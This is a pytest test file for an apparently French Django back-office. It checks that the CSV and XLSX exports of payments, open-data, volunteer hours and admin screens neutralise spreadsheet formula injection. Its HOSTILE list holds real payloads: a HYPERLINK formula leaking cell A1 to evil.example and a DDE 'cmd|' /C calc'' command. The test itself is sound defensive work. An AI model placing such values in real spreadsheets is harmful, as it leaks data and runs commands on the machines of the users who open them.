"""Hostile values typed by an association come back from every export as inert text.

The probe wrote ``=HYPERLINK(...)`` as an organisation name, volunteer names and notes: the
XLSX exports held live formulas next to a SIRET and an IBAN, the CSV files raw text a
spreadsheet evaluates. Each export is read back (csv module, openpyxl)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from backoffice.core import exports
from backoffice.core.roles import Role
from backoffice.core.services import organisation_update
from tests.conventions.factories import make_convention
from tests.factories import AuthorityFactory, OrganisationFactory, member_of, staff_user
from volunteering.importing import volunteer_hours_import

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")'
HOSTILE = [HOSTILE_NAME, "+33 cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTab", "\rRetour"]


def _csv_cells(content: bytes, delimiter: str = ";") -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    return sheet, [list(row) for row in sheet.iter_rows()]


def _assert_inert_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(exports.FORMULA_STARTS), cell


def _assert_inert_xlsx(rows) -> None:
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(exports.FORMULA_STARTS), cell.value


def test_escape_rule_and_plain_values():
    for value in HOSTILE:
        assert exports.escape_text(value) == "'" + value
    assert exports.escape_text("Association des Jardins") == "Association des Jardins"
    assert exports.escape_text("") == ""


@time_machine.travel(dt.datetime(2026, 4, 1, 10, tzinfo=dt.UTC), tick=True)
def test_payments_due_and_scdl_exports_neutralise_an_organisation_name(client):
    agent = staff_user(Role.FINANCE_AGENT)
    organisation = OrganisationFactory(iban="FR7630006000011234567890189")
    admin = member_of(organisation)
    organisation_update(organisation=organisation, user=admin, name=HOSTILE_NAME)
    # The name change is not a bank change: payments are not held.
    organisation.refresh_from_db()
    assert not organisation.bank_details_on_hold
    convention = make_convention(authority=AuthorityFactory(), organisation=organisation,
                                 agent=agent, confirmed=True)
    client.force_login(agent)

    response = client.get(reverse("conventions:payments-due-export", args=["csv"]))
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = _csv_cells(raw)
    assert rows[0][:4] == ["Bénéficiaire", "SIRET", "IBAN", "Montant"]
    line = next(r for r in rows[1:] if r[5] == convention.reference)
    assert line[0] == "'" + HOSTILE_NAME
    assert line[3] == "15000,00"                       # decimal comma
    assert dt.datetime.strptime(line[9], "%d/%m/%Y")     # French date
    _assert_inert_csv(rows)

    response = client.get(reverse("conventions:payments-due-export", args=["xlsx"]))
    sheet, cells = _xlsx_cells(response.content)
    assert sheet.title == "Versements à mandater"
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in cells[0]][:4] == ["Bénéficiaire", "SIRET", "IBAN", "Montant"]
    assert cells[0][0].font.b
    row = next(r for r in cells[1:] if r[5].value == convention.reference)
    assert row[0].value == "'" + HOSTILE_NAME and row[0].data_type == "s"
    assert row[3].value == 15000 and "€" in row[3].number_format
    assert isinstance(row[8].value, dt.datetime) and row[8].number_format == "DD/MM/YYYY"
    assert row[1].value == organisation.siret            # the SIRET stays text, zeros kept
    assert sheet.column_dimensions["A"].width >= 20
    _assert_inert_xlsx(cells)

    response = client.get(reverse("conventions:scdl-export") + "?annee=2026")
    rows = _csv_cells(response.content, delimiter=",")
    scdl = next(r for r in rows[1:] if HOSTILE_NAME in ",".join(r))
    # open-data dialect; montant is the convention's total (3 years of 30 000 €)
    assert "'" + HOSTILE_NAME in scdl and "90000.00" in scdl
    _assert_inert_csv(rows)


def test_volunteering_export_neutralises_names_and_notes_and_reimports(client, settings):
    settings.VOLUNTEERING_PROJECT_RESOLVER = ""
    organisation = OrganisationFactory()
    admin = member_of(organisation)
    lines = ["date;benevole;heures;activite;note"]
    lines += [f"0{i + 1}/03/2026;{name.strip()};2,5;animation;{HOSTILE[-1 - i].strip()}"
              for i, name in enumerate(HOSTILE[:4])]
    with time_machine.travel(dt.datetime(2026, 4, 1, 10, tzinfo=dt.UTC), tick=True):
        report = volunteer_hours_import(organisation=organisation, actor=admin,
                                        content="\n".join(lines).encode(), dry_run=False)
        assert report.imported == 4, report.as_dict()
        client.force_login(admin)
        url = reverse("volunteering:export", args=[organisation.pk, "csv"])
        rows = _csv_cells(client.get(url).content)
        assert rows[0][:4] == ["Date", "Bénévole", "Heures", "Activité"]
        names = {row[1] for row in rows[1:]}
        assert "'" + HOSTILE_NAME in names and "'@SUM(A1:A9)" in names
        assert {row[2] for row in rows[1:]} == {"2,50"}
        _assert_inert_csv(rows)
        url = reverse("volunteering:export", args=[organisation.pk, "xlsx"])
        sheet, cells = _xlsx_cells(client.get(url).content)
        assert sheet.title == "Heures de bénévolat" and sheet.freeze_panes == "A2"
        assert isinstance(cells[1][0].value, dt.datetime)
        assert cells[1][2].value == 2.5
        _assert_inert_xlsx(cells)


def test_dashboard_style_tables_are_neutralised():
    response = exports.table_response(["Nom", "Montant (€)", "Nombre", "Date"],
                                      [[HOSTILE_NAME, Decimal("12.5"), 3, dt.date(2026, 1, 2)]],
                                      filename="t", fmt="xlsx", title="Délais : [2026]")
    sheet, cells = _xlsx_cells(response.content)
    assert sheet.title == "Délais 2026"
    assert cells[1][0].value == "'" + HOSTILE_NAME
    assert "€" in cells[1][1].number_format and cells[1][2].value == 3
    response = exports.table_response(["Nom"], [[v] for v in HOSTILE], filename="t")
    rows = _csv_cells(response.content)
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]


def test_admin_export_of_applications_goes_through_the_escaping_writer(django_app):
    from funds.admin import ApplicationAdmin, AwardAdmin
    from tests.funds.factories import ApplicationFactory

    assert ApplicationAdmin.export_formats == AwardAdmin.export_formats == [
        exports.ExportCSV, exports.ExportXLSX]
    ApplicationFactory(title=HOSTILE_NAME)
    superuser = staff_user(Role.ADMINISTRATOR, is_staff=True, is_superuser=True)
    page = django_app.get(reverse("admin:funds_application_export"), user=superuser)
    form = next(f for f in page.forms.values() if "format" in f.fields)
    for fmt_index, reader in (("0", "csv"), ("1", "xlsx")):
        form["format"] = fmt_index
        response = form.submit()
        if reader == "csv":
            rows = _csv_cells(response.body)
            assert any("'" + HOSTILE_NAME in row for row in rows)
            _assert_inert_csv(rows)
        else:
            _sheet, cells = _xlsx_cells(response.body)
            assert any(c.value == "'" + HOSTILE_NAME for row in cells for c in row)
            _assert_inert_xlsx(cells)
